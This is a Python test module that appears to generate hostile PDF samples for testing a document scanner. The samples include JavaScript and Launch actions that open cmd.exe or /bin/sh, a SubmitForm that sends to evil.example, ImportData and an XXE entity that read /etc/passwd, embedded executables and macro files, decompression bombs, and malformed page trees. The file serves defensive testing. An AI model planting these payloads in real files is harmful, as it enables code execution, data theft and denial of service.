"""PDFs that do things, hide things, never end, or were cut short."""

import io
import itertools
import zlib
from collections.abc import Iterator

import pikepdf

from tests.hostile import FORM, HARMLESS, INFECTED, Hostile, hostile
from tests.hostile.programs import EXE, SVG, archive
from tests.hostile.writing import PAGE, assemble, pdf, stream, zeros

SCRIPTS = {
    "JavaScript": b"<</S/JavaScript/JS(app.alert\\(1\\))>>",
    "JavaScript, escaped": b"<</#53/J#61va#53cript/#4A#53(app.alert\\(1\\))>>",
    "JavaScript in a stream": b"<</S/JavaScript/JS 9 0 R>>",
    "Launch": b"<</S/Launch/F(cmd.exe)/Win<</F(cmd.exe)>>>>",
    "Launch, escaped": b"<</S/#4caunch/F(/bin/sh)>>",
    "SubmitForm": b"<</S/SubmitForm/F(https://evil.example/)>>",
    "ImportData": b"<</S/ImportData/F(/etc/passwd)>>",
    "link to a script": b"<</S/URI/URI(javascript:alert\\(1\\))>>",
    "script after a jump": b"<</S/GoTo/D[3 0 R/Fit]/Next<</S/JavaScript/JS(x)>>>>",
    "jump into an embedded file": b"<</S/GoToE/T<</R/C/N(a)>>>>",
}
PLACES = {
    "on opening": {"catalog": b"/OpenAction %s"},
    "on closing": {"catalog": b"/AA<</WC %s>>"},
    "on a page": {"page": b"/AA<</O %s>>"},
    "on a link": {"page": b"/Annots[<</Subtype/Link/Rect[0 0 9 9]/A %s>>]"},
    "on a field": {"catalog": b"/AcroForm<</Fields[<</FT/Tx/T(a)/AA<</K %s>>>>]>>"},
    "in the outline": {"catalog": b"/Outlines<</First<</Title(a)/A %s>>>>"},
    "among the names": {"catalog": b"/Names<</JavaScript<</Names[(a)%s]>>>>"},
    "where nobody refers to": {},
}
FORMS = b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>app.alert(1)</script></xdp:xdp>'
INVOICE = b'<?xml version="1.0"?><rsm:CrossIndustryInvoice xmlns:rsm="urn:x">%s</rsm:CrossIndustryInvoice>'
CUTS = 20


def made() -> Iterator[Hostile]:
    yield from scripts()
    yield from embedded()
    yield from encrypted()
    yield from cut()
    yield from endless()
    yield from oversized()


def scripts() -> Iterator[Hostile]:
    for (action, act), (place, words) in itertools.product(SCRIPTS.items(), PLACES.items()):
        here = {key: word % act for key, word in words.items()}
        more = [act, b"null", b"null", b"null", b"null", stream(b"app.alert(1)", flate=True)]
        content = pdf(*(more if not words or b"9 0 R" in act else ()), **here)
        yield hostile(f"{action} {place}", "facture.pdf", content, "scripts", INFECTED)
        if place in ("on opening", "on a link"):
            yield hostile(
                f"{action} {place}, packed", "facture.pdf", packed(content), "scripts", INFECTED
            )
    for what, form in {
        "XFA": pdf(stream(FORMS, flate=True), catalog=b"/AcroForm<</XFA 4 0 R/Fields[]>>"),
        "XFA in parts": pdf(
            stream(FORMS[:60]),
            stream(FORMS[60:]),
            catalog=b"/AcroForm<</XFA[(a)4 0 R(b)5 0 R]/Fields[]>>",
        ),
        "XFA in UTF-16": pdf(
            stream(FORMS.decode().encode("utf-16")), catalog=b"/AcroForm<</XFA 4 0 R/Fields[]>>"
        ),
        "RichMedia": pdf(page=b"/Annots[<</Subtype/RichMedia/Rect[0 0 9 9]>>]"),
        "3D": pdf(page=b"/Annots[<</Subtype/3D/Rect[0 0 9 9]>>]"),
        "a film": pdf(page=b"/Annots[<</Subtype/Movie/Rect[0 0 9 9]/Movie<</F(a)>>>>]"),
        "deep in lists": pdf(b"[" * 90 + SCRIPTS["JavaScript"] + b"]" * 90),
    }.items():
        yield hostile(f"{what} in a PDF", "facture.pdf", form, "scripts")


def packed(content: bytes) -> bytes:
    """With its objects inside object streams, and a table that is a stream."""
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(content)) as document:
        document.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return out.getvalue()


def embedded() -> Iterator[Hostile]:
    plain = INVOICE % b"x"
    files = {
        ("setup.exe", EXE),
        ("factur-x.xml", EXE),
        ("macro.docm", archive("word/vbaProject.bin", EXE)),
        ("all.zip", archive("a.exe", EXE)),
        ("page.html", b"<html><script>alert(1)</script>"),
        ("image.svg", SVG),
        ("other.pdf", pdf()),
        ("notes.txt", b"only text"),
        ("invoice.xml", plain),
        ("factur-x.xml.exe", plain),
        ("factur-x.xml", b"<html xmlns:x='urn:x'><script/></html>"),
        ("factur-x.xml", INVOICE % b"<script>alert(1)</script>"),
        ("factur-x.xml", b"<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>" + plain),
        ("factur-x.xml", b"<?xml-stylesheet href='x'?>" + plain),
        ("factur-x.xml", INVOICE % (b" " * 6_000_000)),
    }
    for name, content in sorted(files):
        outcomes = ("embedded", "too_heavy") if len(content) > 1_000_000 else ("embedded",)
        yield hostile(f"{name} in a PDF", "facture.pdf", carrying(name, content), *outcomes)
    spec = b"<</Type/Filespec/F(a.exe)/EF<</F 4 0 R>>>>"
    body = stream(EXE, b"/Type/EmbeddedFile", flate=True)
    for what, words in {
        "an attachment": {"page": b"/Annots[<</Subtype/FileAttachment/Rect[0 0 9 9]/FS 5 0 R>>]"},
        "an associated file": {"catalog": b"/AF[5 0 R]"},
        "a portfolio": {"catalog": b"/Collection<<>>/Names<</EmbeddedFiles<</Names[(a)5 0 R]>>>>"},
        "a file that nobody refers to": {},
    }.items():
        yield hostile(f"{what} in a PDF", "a.pdf", pdf(body, spec, **words), "embedded")
    yield hostile("an embedded stream without a name", "a.pdf", pdf(body), "embedded")


def carrying(name: str, content: bytes) -> bytes:
    """A PDF with an embedded file, as a library makes it."""
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf())) as document:
        document.attachments[name] = pikepdf.AttachedFileSpec(document, content, filename=name)
        document.save(out)
    return out.getvalue()


def encrypted() -> Iterator[Hostile]:
    for revision, (user, owner) in itertools.product(
        (2, 3, 4, 6), (("secret", "secret"), ("", "owner"), ("secret", "owner"))
    ):
        out = io.BytesIO()
        strength = {"R": revision, "aes": revision > 3, "metadata": revision > 3}
        with pikepdf.open(io.BytesIO(pdf())) as document:
            document.save(out, encryption=pikepdf.Encryption(user=user, owner=owner, **strength))
        what = f"encrypted, revision {revision}, {user or 'nobody'} and {owner}"
        yield hostile(what, "releve.pdf", out.getvalue(), FORM, "encrypted")


def cut() -> Iterator[Hostile]:
    whole = packed(pdf(stream(bytes(range(256)) * 20), page=b"/Contents 4 0 R"))
    plain = pdf(stream(bytes(range(256)) * 20), page=b"/Contents 4 0 R")
    for number in range(CUTS):
        at = 1 + number * (len(plain) - 8) // CUTS
        yield hostile(f"PDF cut at {at}", "a.pdf", plain[:at], FORM, "damaged")
        at = 1 + number * (len(whole) - 8) // CUTS
        yield hostile(f"packed PDF cut at {at}", "a.pdf", whole[:at], FORM, "damaged")


def endless() -> Iterator[Hostile]:
    plain = pdf()
    start = plain.rindex(b"startxref")
    table = plain.index(b"xref\n")
    looped = plain[:start].replace(b"/Size 4", b"/Size 4/Prev %d" % table) + plain[start:]
    wrong = {
        "no root": assemble([b"null", b"null"]),
        "a root that is a number": assemble([b"42"]),
        "no pages": pdf(pages=b"<</Type/Pages/Kids[]/Count 0>>"),
        "pages that are their own child": pdf(pages=b"<</Type/Pages/Kids[2 0 R]/Count 1>>"),
        "a page tree in a ring": pdf(
            b"<</Type/Pages/Kids[2 0 R]/Count 1>>", pages=b"<</Type/Pages/Kids[4 0 R]/Count 1>>"
        ),
        "a page that is nothing": pdf(pages=b"<</Type/Pages/Kids[77 0 R]/Count 1>>"),
        "a page that is a text": pdf(pages=b"<</Type/Pages/Kids[(a)]/Count 1>>"),
        "only a head": b"%PDF-1.7\n%%EOF\n",
        "rubbish with a head": b"%PDF-1.7\n" + bytes(range(256)) * 99 + b"%%EOF\n",
        "a tree as deep as a well": well(20_000),
    }
    for what, content in wrong.items():
        yield hostile(f"PDF with {what}", "a.pdf", content, "damaged", "too_heavy")
    for what, content in {
        "a table that leads to itself": looped,
        "a table beyond its end": plain[:start] + b"startxref\n99999999\n%%EOF\n",
        "a count that lies": pdf(pages=b"<</Type/Pages/Kids[3 0 R]/Count 99999999>>"),
        "lists as deep as a well": pdf(b"[" * 50_000 + b"]" * 50_000),
        "a length that lies": plain.replace(b"/Size 4", b"/Size 99999999"),
    }.items():
        outcomes = ("damaged", "too_heavy", "too_many_pages", HARMLESS)
        yield hostile(f"PDF with {what}", "a.pdf", content, *outcomes)


def well(depth: int) -> bytes:
    """A page below so many nodes."""
    nodes = [b"<</Type/Pages/Kids[%d 0 R]/Count 1>>" % (n + 3) for n in range(depth)]
    return assemble([b"<</Type/Catalog/Pages 2 0 R>>", *nodes, PAGE % b""])


def oversized() -> Iterator[Hostile]:
    for count in (61, 500, 5_000):
        kids = b" ".join(b"%d 0 R" % (number + 3) for number in range(count))
        tree = b"<</Type/Pages/Kids[%s]/Count %d>>" % (kids, count)
        content = assemble([b"<</Type/Catalog/Pages 2 0 R>>", tree, *[PAGE % b""] * count])
        yield hostile(f"PDF of {count} pages", "a.pdf", content, "too_many_pages")
    same = b"<</Type/Pages/Kids[%s]/Count 4000>>" % (b"3 0 R " * 4_000)
    yield hostile("PDF of one page 4,000 times", "a.pdf", pdf(pages=same), "too_many_pages")
    for side in (10_000, 1_000_000):
        box = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 %d %d]>>" % (side, side)
        content = assemble(
            [b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>", box]
        )
        yield hostile(f"page of {side} points", "a.pdf", content, "too_many_pixels")
    bomb = zeros(500)
    swollen = {
        "a bomb as content": (bomb, b"/Filter/FlateDecode"),
        "a bomb in a bomb": (zlib.compress(bomb, 9), b"/Filter[/FlateDecode/FlateDecode]"),
        "a bomb with a short name": (bomb, b"/Filter/Fl"),
    }
    for what, (content, words) in swollen.items():
        paper = pdf(stream(content, words), page=b"/Contents 4 0 R")
        yield hostile(f"PDF with {what}", "a.pdf", paper, "too_heavy")
    many = [stream(zeros(100), b"/Filter/FlateDecode")] * 5
    yield hostile("PDF with five smaller bombs", "a.pdf", pdf(*many), "too_heavy")
    picture = b"/Subtype/Image/Width 20000/Height 20000/ColorSpace/DeviceGray/BitsPerComponent 8"
    drawn = pdf(
        stream(zeros(1), picture + b"/Filter/FlateDecode"),
        stream(b"200 0 0 200 0 0 cm /P Do"),
        page=b"/Contents 5 0 R/Resources<</XObject<</P 4 0 R>>>>",
    )
    yield hostile("PDF with a picture of 20,000 x 20,000", "a.pdf", drawn, "too_many_pixels")
